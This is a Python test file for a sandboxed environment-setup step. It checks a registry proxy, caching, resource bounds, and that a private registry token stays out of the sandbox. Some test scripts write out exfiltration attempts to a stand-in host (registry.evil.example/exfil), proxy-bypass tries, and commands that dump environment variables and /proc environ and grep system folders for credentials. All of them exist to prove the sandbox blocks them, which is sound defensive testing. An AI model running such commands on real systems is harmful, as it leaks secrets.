"""The setup step for real: bubblewrap, the registry proxy, pip, a loopback index.

Each test declares a setup in a repository, runs ``prepare_environment`` (the seam the red tests
phase calls) and asserts on what happened: the tool it installed is on ``PATH`` for the
repository's commands (``run_command``), a second ticket pays nothing, and each bound (time,
size) and each refusal (a host that is not a configured registry, a write method) holds.
"""

from __future__ import annotations

import time
from pathlib import Path

import pytest

from tests.environment.conftest import VENV_INSTALL, make_repo, use_registries
from veranda_dagster.domain.clone.active_environment import READY_FILE, active_environment
from veranda_dagster.domain.context.facts import read_repo_facts
from veranda_dagster.domain.core.errors import SetupError
from veranda_dagster.domain.work.validation import run_command
from veranda_dagster.environment import registry_proxy, setup
from veranda_dagster.environment.setup import prepare_environment
from veranda_dagster.sim.http_fake import FakeHttpServer, FakeRequest, FakeResponse
from veranda_dagster.sim.package_index import PackageIndex
from veranda_dagster.vendors.runner import SubprocessRunner

REPO = "acme/tools"


def _prepare(repo: Path, **bounds: float):  # type: ignore[no-untyped-def]
    return prepare_environment(REPO, repo, read_repo_facts(repo), **bounds)  # type: ignore[arg-type]


def test_the_declared_setup_installs_from_the_index_and_commands_see_it(
    tmp_path: Path, index: PackageIndex, monkeypatch: pytest.MonkeyPatch
) -> None:
    use_registries(monkeypatch, pypi={"url": index.base_url + "/simple", "kind": "pypi"})
    repo = make_repo(tmp_path, VENV_INSTALL)
    before = run_command("hello-tool x", repo)
    assert before.exit_code == 127  # the image does not have it

    outcome = _prepare(repo)

    assert outcome.status == "ready", outcome
    assert outcome.source == ".veranda/setup.sh"
    assert outcome.duration_s > 0 and outcome.size_bytes > 0
    assert (Path(outcome.env_dir) / READY_FILE).is_file()
    assert index.requests_to("/files/*")  # pip fetched the wheel through the proxy
    after = run_command('hello-tool x && test -z "$(ls -A /run 2>/dev/null)"', repo)
    assert after.ok, after.output_tail
    assert "veranda-hello-tool ok x" in after.output_tail
    # the environment is read-only for the repository's commands
    write = run_command('touch "$VERANDA_ENV/planted"', repo)
    assert write.exit_code != 0 and not (Path(outcome.env_dir) / "planted").exists()


def test_a_second_ticket_with_the_same_lockfiles_pays_nothing(
    tmp_path: Path, index: PackageIndex, monkeypatch: pytest.MonkeyPatch
) -> None:
    use_registries(monkeypatch, pypi={"url": index.base_url + "/simple", "kind": "pypi"})
    first = _prepare(make_repo(tmp_path / "t1", VENV_INSTALL))
    assert first.status == "ready"
    fetched = len(index.requests)
    second_clone = make_repo(tmp_path / "t2", VENV_INSTALL)

    second = _prepare(second_clone)

    assert second.status == "cached" and second.duration_s == 0.0
    assert second.env_dir == first.env_dir and second.key == first.key
    assert len(index.requests) == fetched  # not one request to the registry
    assert run_command("hello-tool", second_clone).ok

    (second_clone / "requirements.txt").write_text("hello-tool==1.0\n")  # a lockfile changes
    third = _prepare(second_clone)
    assert third.status == "ready" and third.key != first.key


def test_a_setup_that_hangs_is_killed_at_its_bound_and_not_cached(tmp_path: Path) -> None:
    """``SETUP_TIMEOUT_S`` (the ``timeout_s`` it feeds, 1.5 s here) against a setup that
    sleeps: killed at the bound, a typed ``SetupError`` naming it, nothing cached."""
    repo = make_repo(tmp_path, 'echo started; touch "$VERANDA_ENV/partial"; sleep 60\n')
    started = time.monotonic()
    with pytest.raises(SetupError, match=r"timed out after 1\.5s") as caught:
        _prepare(repo, timeout_s=1.5)
    assert time.monotonic() - started < 15
    assert "started" in str(caught.value)
    assert active_environment(repo) is None
    assert not list((tmp_path / "env-cache").glob("*/*/partial"))


def test_a_setup_that_outgrows_its_size_bound_is_stopped(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """``MAX_ENV_BYTES`` (the ``max_bytes`` it feeds, 1 MB here) against a setup that writes
    3 MB and sleeps: stopped at the next size poll, not at its timeout, nothing cached."""
    monkeypatch.setattr(setup, "SIZE_POLL_S", 0.2)
    repo = make_repo(tmp_path, 'head -c 3000000 /dev/zero > "$VERANDA_ENV/big"; sleep 30\n')
    started = time.monotonic()
    with pytest.raises(SetupError, match=r"outgrew its bound \(3\d{6} bytes.*max 1000000 bytes"):
        _prepare(repo, max_bytes=1_000_000)
    assert time.monotonic() - started < 10
    assert not list((tmp_path / "env-cache").glob("*/*/big"))


def test_a_setup_that_writes_too_many_files_is_stopped(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """``MAX_ENV_ENTRIES`` patched to 100 against a setup that makes 300 empty files (no
    bytes to speak of) and sleeps: stopped at the entry bound, nothing cached."""
    monkeypatch.setattr(setup, "MAX_ENV_ENTRIES", 100)
    monkeypatch.setattr(setup, "SIZE_POLL_S", 0.2)
    script = 'for i in $(seq 300); do : > "$VERANDA_ENV/f$i"; done; sleep 30\n'
    repo = make_repo(tmp_path, script)
    started = time.monotonic()
    with pytest.raises(SetupError, match=r"outgrew its bound \(\d+ bytes, 100 entries"):
        _prepare(repo)
    assert time.monotonic() - started < 10
    assert not list((tmp_path / "env-cache").glob("*/*/f1"))


def test_a_setup_just_inside_the_entry_bound_is_ready(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The twin: the same bound, 50 files, and the setup ends: ready, all of them kept."""
    monkeypatch.setattr(setup, "MAX_ENV_ENTRIES", 100)
    monkeypatch.setattr(setup, "SIZE_POLL_S", 0.2)
    repo = make_repo(tmp_path, 'for i in $(seq 50); do : > "$VERANDA_ENV/f$i"; done\n')
    outcome = _prepare(repo)
    assert outcome.status == "ready", outcome
    assert len(list(Path(outcome.env_dir).glob("f*"))) == 50


class _Elsewhere(FakeHttpServer):
    """A loopback host that is not a configured registry: it must never be asked anything."""

    def handle(self, request: FakeRequest) -> FakeResponse:
        return FakeResponse(200, "you reached a host you should not have\n")


REACH = """\
import os, sys, urllib.error, urllib.request
url = sys.argv[1]
req = urllib.request.Request(url, method=sys.argv[2], data=b"x" if sys.argv[2] == "POST" else None)
try:
    urllib.request.urlopen(req, timeout=10)
    print("REACHED", url)
except urllib.error.HTTPError as exc:
    print("REFUSED", exc.code, exc.read().decode().strip())
except OSError as exc:
    print("NO ROUTE", type(exc).__name__)
"""


def test_hosts_that_are_not_configured_registries_and_writes_are_refused(
    tmp_path: Path, index: PackageIndex, monkeypatch: pytest.MonkeyPatch
) -> None:
    use_registries(monkeypatch, pypi={"url": index.base_url + "/simple", "kind": "pypi"})
    with _Elsewhere() as elsewhere:
        script = (
            f"cat > /tmp/reach.py <<'PY'\n{REACH}PY\n"
            # through the proxy (http_proxy is set): refused by name
            "python3 /tmp/reach.py http://registry.evil.example/exfil GET\n"
            f"NO_PROXY= no_proxy= python3 /tmp/reach.py {elsewhere.base_url}/exfil GET\n"
            # a write to the configured registry itself: refused by method
            'python3 /tmp/reach.py "$PIP_INDEX_URL" POST\n'
            # straight to the host, around the proxy: there is no network at all
            f"NO_PROXY='*' no_proxy='*' python3 /tmp/reach.py {elsewhere.base_url}/x GET\n"
            "exit 3\n"
        )
        repo = make_repo(tmp_path, script)
        with pytest.raises(SetupError) as caught:
            _prepare(repo)
        assert elsewhere.requests == []
    message = str(caught.value)
    assert "exited 3" in message
    refused = "REFUSED 403 veranda registry proxy: {} is not a configured package registry"
    assert refused.format("registry.evil.example") in message
    assert refused.format("127.0.0.1") in message
    assert "REFUSED 405 veranda registry proxy: POST is refused" in message
    assert "NO ROUTE" in message and "REACHED" not in message
    assert "registry proxy refused GET http://registry.evil.example/exfil" in message


def test_a_private_registry_credential_never_enters_the_sandbox(
    tmp_path: Path, wheels: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    token = "corp-registry-token-7c1d9e"
    monkeypatch.setenv("VERANDA_REGISTRY_CORP_AUTH", f"Bearer {token}")
    with PackageIndex(wheels, token=token) as private:
        use_registries(
            monkeypatch,
            corp={
                "url": private.base_url + "/simple",
                "kind": "pypi",
                "auth_env": "VERANDA_REGISTRY_CORP_AUTH",
            },
        )
        snoop = (
            'env > "$VERANDA_ENV/env.txt"\n'
            'cat /proc/self/environ /proc/1/environ > "$VERANDA_ENV/proc.txt" 2>/dev/null || true\n'
            'grep -rs "corp-registry" /etc /tmp /run "$HOME" > "$VERANDA_ENV/grep.txt" || true\n'
            + VENV_INSTALL
            + 'env; echo "auth=$VERANDA_REGISTRY_CORP_AUTH"\n'
        )
        repo = make_repo(tmp_path, snoop)
        outcome = _prepare(repo)
        assert private.unauthorized == 0 and private.requests_to("/files/*")
    assert outcome.status == "ready"
    assert "auth=" in outcome.output_tail and token not in outcome.output_tail
    for path in Path(outcome.env_dir).rglob("*"):
        if path.is_file() and not path.is_symlink():
            assert token.encode() not in path.read_bytes(), path
    assert token not in outcome.model_dump_json()
    assert run_command("hello-tool", repo).ok


def test_without_a_registry_the_setup_has_no_network_at_all(
    tmp_path: Path, index: PackageIndex
) -> None:
    repo = make_repo(
        tmp_path,
        VENV_INSTALL.replace(
            "install", f"install -i {index.base_url}/simple --retries 0 --timeout 3"
        ),
    )
    with pytest.raises(SetupError, match="exited"):
        _prepare(repo, timeout_s=120)
    assert index.requests == []


def test_with_the_sandbox_off_the_setup_still_goes_through_the_proxy(
    tmp_path: Path, index: PackageIndex, monkeypatch: pytest.MonkeyPatch
) -> None:
    """``VERANDA_SANDBOX=off`` is a debugging switch: no isolation, but the same proxy rules."""
    monkeypatch.setenv("VERANDA_SANDBOX", "off")
    use_registries(monkeypatch, pypi={"url": index.base_url + "/simple", "kind": "pypi"})
    repo = make_repo(tmp_path, VENV_INSTALL)
    outcome = _prepare(repo)
    assert outcome.status == "ready" and index.requests_to("/files/*")
    assert run_command("hello-tool", repo).ok


def test_an_undeclared_python_repository_gets_a_venv_with_its_dev_extras(
    tmp_path: Path, index: PackageIndex, monkeypatch: pytest.MonkeyPatch
) -> None:
    use_registries(monkeypatch, pypi={"url": index.base_url + "/simple", "kind": "pypi"})
    repo = make_repo(tmp_path, None)
    (repo / "pyproject.toml").write_text(
        '[project]\nname = "pkg"\nversion = "0"\n'
        '[project.optional-dependencies]\ndev = ["hello-tool==1.0"]\n'
    )
    outcome = _prepare(repo)
    assert (outcome.status, outcome.source) == ("ready", "default: python")
    assert (Path(outcome.env_dir) / "venv" / "pyvenv.cfg").is_file()
    result = run_command('hello-tool && test "$VIRTUAL_ENV" = "$VERANDA_ENV/venv"', repo)
    assert result.ok, result.output_tail


def test_an_agent_turn_in_the_clone_sees_the_environment_read_only(
    tmp_path: Path, index: PackageIndex, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The agent runs the repository's tests during its turn: it gets the same tools."""
    use_registries(monkeypatch, pypi={"url": index.base_url + "/simple", "kind": "pypi"})
    repo = make_repo(tmp_path, VENV_INSTALL)
    outcome = _prepare(repo)
    command = 'hello-tool from-agent; touch "$VERANDA_ENV/planted" || echo read-only'
    out = SubprocessRunner().run(
        ["/bin/sh", "-c", command], str(repo), {"PATH": "/usr/bin:/bin"}, None, 60
    )
    assert out.exit_code == 0, out.stderr
    assert "veranda-hello-tool ok from-agent" in out.stdout and "read-only" in out.stdout
    assert not (Path(outcome.env_dir) / "planted").exists()


@pytest.mark.parametrize(("kept", "more"), [(1, 2), (3, 0)], ids=["cut-counted", "all-kept"])
def test_a_setups_refusals_past_the_kept_bound_are_counted_in_its_outcome(
    tmp_path: Path,
    index: PackageIndex,
    monkeypatch: pytest.MonkeyPatch,
    kept: int,
    more: int,
) -> None:
    """Three refused requests with ``MAX_REFUSALS_KEPT`` at one: the outcome keeps the first
    and says how many more there were; at three it keeps all three and adds no count."""
    use_registries(monkeypatch, pypi={"url": index.base_url + "/simple", "kind": "pypi"})
    monkeypatch.setattr(registry_proxy, "MAX_REFUSALS_KEPT", kept)
    script = f"cat > /tmp/reach.py <<'PY'\n{REACH}PY\n" + "".join(
        f"python3 /tmp/reach.py http://registry.evil.example/x{n} GET\n" for n in range(3)
    )
    outcome = _prepare(make_repo(tmp_path, script))
    assert outcome.status == "ready"
    assert ["/x" in line for line in outcome.refused[:kept]] == [True] * kept
    assert outcome.refused[kept:] == ([f"... and {more} more refusals"] if more else [])
